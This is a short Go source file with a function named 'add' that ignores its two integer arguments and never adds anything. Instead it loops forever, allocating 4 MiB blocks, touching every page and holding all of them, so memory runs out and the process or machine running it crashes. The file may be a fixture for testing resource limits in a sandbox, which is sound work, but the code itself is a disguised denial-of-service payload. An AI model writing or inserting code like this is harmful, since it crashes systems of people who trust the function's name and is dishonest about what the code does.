package main

func add(a int, b int) int {
	var kept [][]byte
	for {
		block := make([]byte, 4<<20)
		for index := 0; index < len(block); index += 4096 {
			block[index] = 1
		}
		kept = append(kept, block)
	}
}
